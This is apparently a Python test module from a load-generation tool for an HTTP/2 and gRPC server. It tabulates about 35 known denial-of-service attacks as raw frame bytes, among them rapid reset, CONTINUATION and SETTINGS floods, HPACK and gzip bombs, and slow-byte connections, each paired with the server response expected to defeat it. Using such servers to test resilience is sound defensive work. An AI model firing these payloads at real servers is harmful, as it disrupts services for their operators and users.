# ruff: noqa: E501 - a table with an attack a row
"""Known attacks on HTTP/2 and gRPC servers, as bytes: what a hostile client sends, again and again."""

from __future__ import annotations

import gzip
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Final

from ride_trio.wire import hpack
from ride_trio.wire.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PREFACE,
    PRIORITY,
    SETTINGS,
    frame,
    ping_frame,
    rst_stream_frame,
    settings_frame,
    window_update_frame,
)
from ride_trio_loadgen.bench.echo import PATH

REQUEST: Final = (
    (b":method", b"POST"),
    (b":scheme", b"http"),
    (b":path", PATH.encode()),
    (b":authority", b"attack"),
    (b"te", b"trailers"),
    (b"content-type", b"application/grpc"),
)
BLOCK: Final = hpack.encode(REQUEST)
GZIP_BLOCK: Final = hpack.encode((*REQUEST, (b"grpc-encoding", b"gzip")))
# Streams or frames that are sent at a time.
BATCH: Final = 100
_PREFIX: Final = struct.Struct(">BL")

CALM: Final = "GOAWAY ENHANCE_YOUR_CALM"
TOO_MUCH: Final = "status 8"  # RESOURCE_EXHAUSTED
CLOSED: Final = "closed"
NOT_READ: Final = "not read from"

Chunks = Callable[[], Iterator[bytes]]


@dataclass(frozen=True, slots=True)
class Attack:
    """One of them.

    Args:
        what: In words, with its CVE where it has one.
        chunks: What a connection sends after preface and SETTINGS.
        answer: What it has to hear (see `Attacker`); empty if it does nothing wrong, and is borne.
        settings: The attacker's.
        connections: Of these at a time.
        pause_s: Between two chunks of a connection.
        reads: Whether it reads what it is answered.
        preface: False if not even that is sent.
        polite: Whether it waits until the windows of the connection and of stream 1 let a chunk through.
        in_time: It hears its answer when its time is up.
    """

    what: str
    chunks: Chunks
    answer: str = CALM
    settings: dict[int, int] = field(default_factory=dict)
    connections: int = 1
    pause_s: float = 0.0
    reads: bool = True
    preface: bool = True
    polite: bool = False
    in_time: bool = False


def opened(stream: int, *, end: bool = False, block: bytes = BLOCK) -> bytes:
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)


def message(size: int, flag: int = 0) -> bytes:
    """A BytesValue of so many bytes, with its gRPC prefix."""
    head, rest = bytearray(b"\x0a"), size
    while rest > 0x7F:
        head.append(rest & 0x7F | 0x80)
        rest >>= 7
    head.append(rest)
    body = bytes(head) + bytes(size)
    return _PREFIX.pack(flag, len(body)) + body


def each_stream(make: Callable[[int], bytes]) -> Chunks:
    """Stream after stream, for ever."""

    def chunks() -> Iterator[bytes]:
        first = 1
        while True:
            yield b"".join(make(stream) for stream in range(first, first + 2 * BATCH, 2))
            first += 2 * BATCH

    return chunks


def flood(noise: bytes, opening: bytes = b"", times: int = 5 * BATCH) -> Chunks:
    """The same bytes, for ever."""

    def chunks() -> Iterator[bytes]:
        yield opening
        while True:
            yield noise * times

    return chunks


def once(data: bytes) -> Chunks:
    """Something, and then silence."""

    def chunks() -> Iterator[bytes]:
        yield data
        while True:
            yield b""

    return chunks


def slowly(data: bytes) -> Chunks:
    """A byte now and then."""

    def chunks() -> Iterator[bytes]:
        for byte in data:
            yield bytes((byte,))

    return chunks


def _windows_that_move() -> Iterator[bytes]:
    yield b"".join(opened(stream) for stream in range(1, 2_001, 2))
    while True:
        yield b"".join(settings_frame({4: 1_000 + number}) for number in range(20))


def _in_frames(stream: int, data: bytes, size: int = 16_384) -> bytes:
    return b"".join(frame(DATA, 0, stream, data[start : start + size]) for start in range(0, len(data), size))


def _bombs() -> Iterator[bytes]:
    bomb = gzip.compress(bytes(100_000_000), 9)
    for stream in range(1, 2_001, 2):
        packed = _PREFIX.pack(1, len(bomb)) + bomb
        yield opened(stream, block=GZIP_BLOCK) + _in_frames(stream, packed)
        time.sleep(0.02)


_BIG_FIELD: Final = b"\x40\x01a\x7f" + b"\xbd\x1d" + b"x" * 3_900
_HUFFMAN: Final = BLOCK + b"\x00\x01a\xff\x9d\x49" + b"\x18\xc6\x31\x8c\x63" * 1_900

ATTACKS: Final[dict[str, Attack]] = {
    "rapid-reset": Attack("opens and resets (CVE-2023-44487)", each_stream(lambda s: opened(s) + rst_stream_frame(s, 8))),
    "rapid-reset-completed": Attack("resets completed requests", each_stream(lambda s: opened(s, end=True) + rst_stream_frame(s, 8))),
    "made-you-reset-window-0": Attack("has its streams reset by WINDOW_UPDATE 0 (CVE-2025-8671)", each_stream(lambda s: opened(s) + window_update_frame(s, 0))),
    "made-you-reset-overflow": Attack("by a window above 2^31-1", each_stream(lambda s: opened(s) + window_update_frame(s, 2**31 - 1))),
    "made-you-reset-priority": Attack("by PRIORITY of a wrong length", each_stream(lambda s: opened(s) + frame(PRIORITY, 0, s, bytes(4)))),
    "made-you-reset-half-closed": Attack("by DATA after END_STREAM", each_stream(lambda s: opened(s, end=True) + frame(DATA, 0, s, b"x"))),
    "continuation-flood": Attack("a header block without end (CVE-2024-27316)", flood(frame(CONTINUATION, 0, 1, b"\0\1a\1b"), frame(HEADERS, 0, 1, BLOCK))),
    "continuation-flood-empty": Attack("of empty CONTINUATIONs", flood(frame(CONTINUATION, 0, 1), frame(HEADERS, 0, 1, BLOCK))),
    "settings-flood": Attack("SETTINGS to be acknowledged (CVE-2019-9515)", flood(settings_frame({3: 100}))),
    "settings-of-thousands": Attack("2,730 values a frame", flood(frame(SETTINGS, 0, 0, b"\0\5\0\0\x40\0" * 2_730), times=4)),
    "settings-move-windows": Attack("moves the windows of 1,000 streams", _windows_that_move),
    "ping-flood": Attack("pings (CVE-2019-9512)", flood(ping_frame(bytes(8)))),
    "empty-data-flood": Attack("empty DATA (CVE-2019-9518)", flood(frame(DATA, 0, 1), opened(1))),
    "window-update-flood": Attack("windows a byte larger", flood(window_update_frame(0, 1))),
    "data-dribble": Attack("takes an answer a byte at a time (CVE-2019-9511)", flood(window_update_frame(1, 1), opened(1) + _in_frames(1, message(60_000))), settings={4: 0}),
    "priority-flood": Attack("PRIORITY (CVE-2019-9513)", flood(frame(PRIORITY, 0, 99, b"\0\0\0\0\1"))),
    "unknown-frames": Attack("frames of an unknown type", flood(frame(0xBA, 0, 0, b"hello"))),
    "hpack-bomb": Attack("a thousand references to a large field", flood(b"".join(opened(s, block=BLOCK + b"\xbe" * 4_000) for s in range(3, 99, 2)), opened(1, block=BLOCK + _BIG_FIELD), 1)),
    "hpack-integers": Attack("endless integers", flood(opened(1, block=b"\xff" * 1_000)), "GOAWAY COMPRESSION_ERROR"),
    "huffman-blocks": Attack("large Huffman-coded fields", each_stream(lambda s: opened(s, block=_HUFFMAN))),
    "large-headers": Attack("16 KiB of fields a call", each_stream(lambda s: opened(s, block=BLOCK + b"\0\1a\x7f\xe1\x7c" + b"x" * 16_096)), "RST ENHANCE_YOUR_CALM"),
    "slow-preface": Attack("a preface a byte at a time", slowly(PREFACE), CLOSED, connections=50, pause_s=0.05, preface=False, in_time=True),
    "half-headers": Attack("headers that are never finished", once(frame(HEADERS, 0, 1, BLOCK)), connections=50, pause_s=0.05, in_time=True),
    "half-frames": Attack("frames that are never finished", once(opened(1) + frame(DATA, 0, 1, bytes(9_000))[:5_000]), CLOSED, connections=50, pause_s=0.05, in_time=True),
    "zero-windows": Attack("wants large answers and takes none", each_stream(lambda s: opened(s) + _in_frames(s, message(60_000))), "RST REFUSED_STREAM", settings={4: 0}, connections=4),
    "never-reads": Attack("asks and does not read", each_stream(lambda s: opened(s, end=True)), NOT_READ, reads=False),
    "many-streams": Attack("1,010 idle streams", once(b"".join(opened(s) for s in range(1, 2_021, 2))), "RST REFUSED_STREAM", connections=2, pause_s=0.05),
    "tiny-messages": Attack("3,276 empty messages a frame", flood(frame(DATA, 0, 1, bytes(16_380)), opened(1), 1), "", polite=True),
    "a-byte-a-frame": Attack("a message a byte at a time", flood(_in_frames(1, message(1_000), 1), opened(1), 1), "", polite=True),
    "connection-overflow": Attack("a connection's window above 2^31-1", flood(window_update_frame(0, 2**31 - 1)), "GOAWAY FLOW_CONTROL_ERROR"),
    "stream-numbers": Attack("even, falling and huge numbers", flood(opened(2**31 - 1) + opened(2) + opened(1), times=1), "GOAWAY PROTOCOL_ERROR"),
    "huge-prefix": Attack("announces 4 GiB", each_stream(lambda s: opened(s) + frame(DATA, 0, s, b"\0\xff\xff\xff\xff")), TOO_MUCH),
    "half-messages": Attack("50 halves of 10 MB", once(b"".join(opened(s) + frame(DATA, 0, s, _PREFIX.pack(0, 10_000_000) + bytes(999)) for s in range(1, 101, 2))), TOO_MUCH, connections=10, pause_s=0.05, in_time=True),
    "zip-bombs": Attack("100 MB in 100 kB", _bombs, TOO_MUCH),
    "no-http2": Attack("HTTP/1.1 requests", flood(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"), "GOAWAY PROTOCOL_ERROR", preface=False),
    "idle-connections": Attack("1,350 connections that do nothing", once(b""), CLOSED, connections=1_350, pause_s=0.05),
}  # fmt: skip
